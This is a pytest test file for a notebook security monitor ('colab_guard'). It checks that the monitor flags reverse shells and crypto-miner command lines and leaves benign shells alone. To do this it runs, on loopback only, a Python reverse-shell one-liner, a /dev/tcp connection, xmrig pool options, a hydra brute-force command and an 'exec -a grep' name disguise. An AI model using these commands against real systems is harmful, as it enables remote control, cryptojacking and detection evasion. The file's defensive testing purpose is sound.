"""Shells seen by the sampler, as real processes: a shell whose standard streams are a network
connection is a reverse shell; a shell that merely holds a connection (a ``%%bash`` cell,
its script on a pipe, reading a server's reply from fd 3) is not, and neither is the
system's shell printing a tool's options (``!echo "xmrig --donate-level 1 …"``). Everything
on loopback."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from contextlib import contextmanager

import pytest

from colab_guard.detect.engine import Engine
from colab_guard.detect.signatures import load_signatures
from colab_guard.observe.processes import ProcessSampler

RULES = load_signatures()


class Greeter:
    """A loopback service that greets each client with a line and keeps it connected."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(20)
        self.port = self.server.getsockname()[1]
        self.clients: list[socket.socket] = []

    def accept_one(self) -> None:
        conn, _ = self.server.accept()
        conn.sendall(b"hello\n")
        self.clients.append(conn)

    def close(self) -> None:
        for conn in self.clients:
            conn.close()
        self.server.close()


@pytest.fixture
def listener():
    greeter = Greeter()
    yield greeter
    greeter.close()


@contextmanager
def bash_cell_connected(script: str, stdout=subprocess.DEVNULL):
    """A `%%bash` cell's bash (its script on a pipe) that opens /dev/tcp on fd 3 to a
    greeter on loopback, then runs ``script``: the bash process, once connected."""
    greeter = Greeter()
    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=stdout)
    bash.stdin.write(f"exec 3<>/dev/tcp/127.0.0.1/{greeter.port}\n{script}".encode())
    bash.stdin.close()
    try:
        greeter.accept_one()
        yield bash
    finally:
        _stop(bash)
        greeter.close()


def _wait_for(sampler: ProcessSampler, root: int, want, timeout: float = 20.0):
    """Sample the tree of ``root`` until a process in it satisfies ``want``; that process and
    the engine's detections at that tick."""
    engine = Engine(RULES)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        snapshot = sampler.sample({"k": root})["k"]
        detections = engine.evaluate(snapshot)
        found = next((p for p in snapshot.processes if want(p)), None)
        if found is not None:
            return found, [d for d in detections if d.process.pid == found.pid]
        time.sleep(0.05)  # polling the processes' state
    raise AssertionError("no process in the tree came to the state wanted")


def _stop(proc: subprocess.Popen) -> None:
    proc.kill()
    proc.wait()


def test_a_shell_whose_streams_are_a_connection_is_a_reverse_shell(listener):
    """What `nc -e /bin/sh` or a Python one-liner's os.dup2 leaves: sh with the socket on
    stdin, stdout and stderr (no /dev/tcp, no -e on any command line)."""
    port = listener.port
    parent = subprocess.Popen([sys.executable, "-c", (
        "import socket, subprocess, sys\n"
        f"s = socket.create_connection(('127.0.0.1', {port}))\n"
        "subprocess.run(['sh', '-i'], stdin=s, stdout=s, stderr=s)\n")])
    listener.accept_one()
    try:
        shell, detections = _wait_for(ProcessSampler(), parent.pid,
                                      lambda p: p.name in ("sh", "dash") and p.sockets)
        assert shell.sockets and all(s.stream for s in shell.sockets)  # on its fds 0-2
        assert {d.signature.id for d in detections} == {"remote-reverse-shell"}
    finally:
        _stop(parent)


def test_a_bash_cell_holding_a_connection_on_fd_3_is_left_alone():
    """`%%bash` runs bash with the cell on its stdin (a pipe): a health check that opens
    /dev/tcp on fd 3 and reads the greeting holds a connection, with no shell wired to it."""
    script = 'read -r line <&3\necho "$line"\nsleep 30\nexec 3<&-\n'
    with bash_cell_connected(script, stdout=subprocess.PIPE) as bash:
        assert bash.stdout.readline() == b"hello\n"
        shell, detections = _wait_for(
            ProcessSampler(), bash.pid,
            lambda p: p.pid == bash.pid and any(s.status == "ESTABLISHED" for s in p.sockets))
        # the rule's near-miss: a shell with no script, an established connection, none on
        # its streams
        assert shell.cmdline == ["bash"] and not any(s.stream for s in shell.sockets)
        assert detections == []


SEARCH_LINE = "xmrig --donate-level 1 -o pool.example.org:3333"
ECHO_SCRIPT = ('echo "xmrig --donate-level 1 -o pool.example.org:3333"; '
               'printf "%s\\n" "hydra -l root -P pw.txt ftp://10.0.0.5"; sleep 30; echo done')


def test_the_system_shell_printing_a_miners_options_is_left_alone():
    """`!echo "xmrig --donate-level 1 -o …"` in a course: the shell's command line carries
    a miner's options as text it prints (the shell stays while `sleep` runs)."""
    shell = subprocess.Popen(["/bin/sh", "-c", ECHO_SCRIPT], stdout=subprocess.DEVNULL)
    try:
        found, detections = _wait_for(ProcessSampler(), shell.pid,
                                      lambda p: p.pid == shell.pid and "-c" in p.cmdline)
        assert found.exe.startswith(("/bin/", "/usr/bin/"))
        assert detections == []
    finally:
        _stop(shell)


def test_a_copy_of_the_shell_named_sh_is_judged_by_its_command_line(tmp_path):
    """The exemption is the system's shell's: a program copied to a file named sh (a miner
    renamed so) is matched on its command line as any other."""
    copy = tmp_path / "sh"
    shutil.copy(os.path.realpath("/bin/sh"), copy)
    shell = subprocess.Popen([str(copy), "-c", ECHO_SCRIPT], stdout=subprocess.DEVNULL)
    try:
        found, detections = _wait_for(ProcessSampler(), shell.pid,
                                      lambda p: p.pid == shell.pid and "-c" in p.cmdline)
        assert "mining-miner-command-line" in {d.signature.id for d in detections}
    finally:
        _stop(shell)


def test_a_program_started_under_a_text_tools_name_is_judged_by_its_file(tmp_path):
    """`exec -a grep ./kworker --donate-level 1 -o …`: the first word says grep, the file it
    runs is the user's (a copy of the shell here, which stays up while its script sleeps).
    The text tools' exception needs both, so the miner's options count before it connects."""
    copy = tmp_path / "kworker"
    shutil.copy(os.path.realpath("/bin/sh"), copy)
    started = subprocess.Popen(
        ["/bin/bash", "-c", f"exec -a grep {copy} -c 'sleep 30; :' "
         "--donate-level 1 -o pool.example.org:3333"], stdout=subprocess.DEVNULL)
    try:
        found, detections = _wait_for(ProcessSampler(), started.pid,
                                      lambda p: p.pid == started.pid and p.exe == str(copy))
        assert found.cmdline[0] == "grep" and not found.sockets
        assert "mining-miner-command-line" in {d.signature.id for d in detections}
    finally:
        _stop(started)


def test_a_kernels_child_that_becomes_the_shell_is_judged_with_the_shells_libraries():
    """A `!` line: the kernel forks, the child (Python, its libraries from the virtual
    environment) execs bash. Read in full before and after the exec, within the sampler's
    libraries refresh: bash kept Python's libraries, was no longer the system's own shell,
    and its echo of a miner's options matched (CI, a loaded machine)."""
    script = f"echo '{SEARCH_LINE}' >/dev/null; sleep 30; :"
    child = subprocess.Popen([sys.executable, "-c", (
        "import os, sys\n"
        "sys.stdin.readline()\n"
        f"os.execv('/bin/bash', ['/bin/sh', '-c', {script!r}])\n")], stdin=subprocess.PIPE)
    sampler = ProcessSampler()
    try:
        before, _ = _wait_for(sampler, child.pid, lambda p: p.pid == child.pid
                              and p.name.startswith("python") and p.libraries)
        assert not all(lib.startswith(("/lib/", "/usr/lib/")) for lib in before.libraries) \
            or sys.executable.startswith("/usr/bin/")  # a Python of its own, as a venv's
        child.stdin.write(b"go\n")
        child.stdin.flush()
        shell, detections = _wait_for(sampler, child.pid, lambda p: p.pid == child.pid
                                      and p.exe.endswith("/bash"))
        assert all(lib.startswith(("/lib/", "/usr/lib/")) for lib in shell.libraries), shell.libraries
        assert detections == []
    finally:
        _stop(child)


def test_the_loaders_cache_mapped_while_a_program_starts_is_no_library():
    """ld.so maps /etc/ld.so.cache while it loads a program's libraries: bash read then (1 in
    15 here under load) had a 'library' outside the system's folders, so it was not the
    system's own shell and its echo of a miner's options was judged as a command."""
    from colab_guard.observe.processes import _libraries_in
    maps = (b"7f00-7f01 r--p 00000000 08:01 11 /etc/ld.so.cache\n"
            b"7f02-7f03 r-xp 00000000 08:01 12 /usr/lib/x86_64-linux-gnu/libc.so.6\n"
            b"7f04-7f05 r-xp 00000000 08:01 13 /content/libfast.so\n")
    assert _libraries_in(maps) == ["/usr/lib/x86_64-linux-gnu/libc.so.6", "/content/libfast.so"]
